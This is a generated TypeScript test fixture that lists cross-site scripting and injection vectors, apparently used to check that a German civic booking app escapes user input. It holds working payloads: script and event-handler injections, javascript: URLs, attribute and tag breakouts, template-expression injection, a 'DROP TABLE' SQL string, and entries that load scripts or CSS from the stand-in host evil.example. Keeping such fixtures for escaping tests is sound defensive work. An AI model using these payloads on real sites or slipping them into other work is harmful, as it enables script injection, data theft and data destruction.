// Generated from packages/contract/seed/xss-vectors.json by packages/contract/seed/sync.mjs. Do not edit.
import type { XssVector } from './xss.js';

export const xssVectors: readonly XssVector[] = [
  {
    "id": "script-tag",
    "value": "<script>__xss(1)</script>"
  },
  {
    "id": "script-src",
    "value": "<script src=\"https://evil.example/x.js\"></script>",
    "note": "external script; must stay text"
  },
  {
    "id": "img-onerror",
    "value": "<img src=x onerror=__xss(2)>"
  },
  {
    "id": "img-onerror-quoted",
    "value": "<img src=\"x\" onerror=\"__xss(3)\">"
  },
  {
    "id": "svg-onload",
    "value": "<svg onload=__xss(4)>"
  },
  {
    "id": "svg-nested",
    "value": "<svg><g onload=\"__xss(5)\"></g></svg>"
  },
  {
    "id": "body-onload",
    "value": "<body onload=__xss(6)>"
  },
  {
    "id": "iframe-js",
    "value": "<iframe src=\"javascript:__xss(7)\"></iframe>"
  },
  {
    "id": "iframe-srcdoc",
    "value": "<iframe srcdoc=\"<script>parent.__xss(8)</script>\">"
  },
  {
    "id": "a-javascript",
    "value": "<a href=\"javascript:__xss(9)\">Klick</a>"
  },
  {
    "id": "javascript-url",
    "value": "javascript:__xss(10)",
    "note": "a bare javascript: URL (for fields that become links)"
  },
  {
    "id": "javascript-url-case",
    "value": "JaVaScRiPt:__xss(11)"
  },
  {
    "id": "javascript-url-entity",
    "value": "jav&#x09;ascript:__xss(12)"
  },
  {
    "id": "javascript-url-tab",
    "value": "jav\tascript:__xss(13)"
  },
  {
    "id": "data-url-html",
    "value": "data:text/html;base64,PHNjcmlwdD5fX3hzcygxNSk8L3NjcmlwdD4="
  },
  {
    "id": "vbscript-url",
    "value": "vbscript:msgbox(1)"
  },
  {
    "id": "attr-breakout-double",
    "value": "\"><img src=x onerror=__xss(14)>"
  },
  {
    "id": "attr-breakout-single",
    "value": "'><svg onload=__xss(15)>"
  },
  {
    "id": "attr-breakout-event",
    "value": "\" onmouseover=\"__xss(16)\" x=\""
  },
  {
    "id": "attr-breakout-autofocus",
    "value": "\" autofocus onfocus=\"__xss(17)"
  },
  {
    "id": "style-breakout",
    "value": "</style><script>__xss(18)</script>"
  },
  {
    "id": "textarea-breakout",
    "value": "</textarea><script>__xss(19)</script>"
  },
  {
    "id": "title-breakout",
    "value": "</title><script>__xss(20)</script>"
  },
  {
    "id": "comment-breakout",
    "value": "--><script>__xss(21)</script><!--"
  },
  {
    "id": "cdata",
    "value": "<![CDATA[<script>__xss(22)</script>]]>"
  },
  {
    "id": "template-literal",
    "value": "${__xss(23)}"
  },
  {
    "id": "template-literal-backtick",
    "value": "`${__xss(24)}`"
  },
  {
    "id": "lit-html-binding",
    "value": "${'`'}<b>${html`<img src=x onerror=__xss(25)>`}</b>"
  },
  {
    "id": "lit-marker",
    "value": "<?lit$1234$>{{lit-part}}<!--?lit$1234$-->"
  },
  {
    "id": "angular-expression",
    "value": "{{constructor.constructor('__xss(26)')()}}"
  },
  {
    "id": "handlebars",
    "value": "{{#with \"s\" as |string|}}{{string.constructor}}{{/with}}"
  },
  {
    "id": "i18next-interpolation",
    "value": "{{value}} $t(key) {{- unescaped}}"
  },
  {
    "id": "uppercase-tags",
    "value": "<SCRIPT>__xss(27)</SCRIPT>"
  },
  {
    "id": "mixed-case-img",
    "value": "<IMG SRC=x OnErRoR=__xss(28)>"
  },
  {
    "id": "no-quotes-no-space",
    "value": "<img/src=x/onerror=__xss(29)>"
  },
  {
    "id": "malformed-a",
    "value": "<a \"\"\"><script>__xss(30)</script>\">"
  },
  {
    "id": "details-ontoggle",
    "value": "<details open ontoggle=__xss(31)>"
  },
  {
    "id": "video-source",
    "value": "<video><source onerror=__xss(32)></video>"
  },
  {
    "id": "input-onfocus",
    "value": "<input autofocus onfocus=__xss(33)>"
  },
  {
    "id": "object-data",
    "value": "<object data=\"javascript:__xss(34)\"></object>"
  },
  {
    "id": "embed-src",
    "value": "<embed src=\"javascript:__xss(35)\">"
  },
  {
    "id": "form-action",
    "value": "<form action=\"javascript:__xss(36)\"><button>OK</button></form>"
  },
  {
    "id": "meta-refresh",
    "value": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__xss(37)\">"
  },
  {
    "id": "base-href",
    "value": "<base href=\"https://evil.example/\">"
  },
  {
    "id": "link-import",
    "value": "<link rel=stylesheet href=\"https://evil.example/x.css\">"
  },
  {
    "id": "style-expression",
    "value": "<div style=\"background:url(javascript:__xss(38))\">x</div>"
  },
  {
    "id": "css-injection",
    "value": "red;}</style><style>*{background:url(https://evil.example/c)}"
  },
  {
    "id": "math-href",
    "value": "<math><a xlink:href=\"javascript:__xss(39)\">x</a></math>"
  },
  {
    "id": "html-entities",
    "value": "&lt;script&gt;__xss(40)&lt;/script&gt; &amp; &quot;"
  },
  {
    "id": "decimal-entities",
    "value": "&#60;script&#62;__xss(41)&#60;/script&#62;"
  },
  {
    "id": "null-byte",
    "value": "<scr\u0000ipt>__xss(42)</scr\u0000ipt>"
  },
  {
    "id": "rtl-override",
    "value": "Antrag ‮gpj.exe‬ bearbeitet",
    "note": "U+202E right-to-left override"
  },
  {
    "id": "bidi-isolates",
    "value": "⁧Bürger⁩büro ⁦__xss(43)⁩"
  },
  {
    "id": "zero-width",
    "value": "Bür​ger‍büro﻿"
  },
  {
    "id": "combining-chars",
    "value": "Z͑͜͠͡ä́͆ͅl͇͈͉g͊͋͌o͍͎"
  },
  {
    "id": "emoji-surrogates",
    "value": "👩‍👩‍👧‍👦 Familie 🇩🇪 \ud83d",
    "note": "includes a lone surrogate"
  },
  {
    "id": "newlines",
    "value": "Zeile 1\r\nZeile 2\n<script>__xss(44)</script>"
  },
  {
    "id": "sql-like",
    "value": "'; DROP TABLE bookings; --"
  },
  {
    "id": "json-breakout",
    "value": "\"}]};__xss(45);//"
  },
  {
    "id": "prototype-keys",
    "value": "__proto__ constructor prototype"
  },
  {
    "id": "format-string",
    "value": "%s%s%n%x %(name)s {0}"
  },
  {
    "id": "svg-animate",
    "value": "<svg><animate onbegin=__xss(46) attributeName=x dur=1s>"
  },
  {
    "id": "svg-use-data",
    "value": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss(47)'/></svg>#x\"/></svg>"
  },
  {
    "id": "slot-injection",
    "value": "<slot name=\"x\"></slot><template shadowrootmode=\"open\"><img src=x onerror=__xss(48)></template>"
  },
  {
    "id": "custom-element",
    "value": "<civic-config api-base=\"https://evil.example\"></civic-config>"
  },
  {
    "id": "long-no-spaces",
    "value": "DonaudampfschifffahrtsgesellschaftskapitänswitwenrentenversicherungsanstaltsbürgerbürozuständigkeitsprüfungsverfahrensbeschleunigungsgesetzesnovellierungsentwurfsbegründungsanlagenverzeichnisXXXXX",
    "note": "about 190 characters without a break"
  },
  {
    "id": "long-mixed",
    "value": "<b>lang</b> Sehr langer Text mit <i>Markup</i> & Sonderzeichen „äöüß“ <b>lang</b> Sehr langer Text mit <i>Markup</i> & Sonderzeichen „äöüß“ <b>lang</b> Sehr langer Text mit <i>Markup</i> & Sonder",
    "note": "about 195 characters"
  },
  {
    "id": "very-long",
    "value": "<img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x onerror=__xss(49)> Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. <img src=x",
    "note": "about 2000 characters, only for fields that allow that much"
  }
];
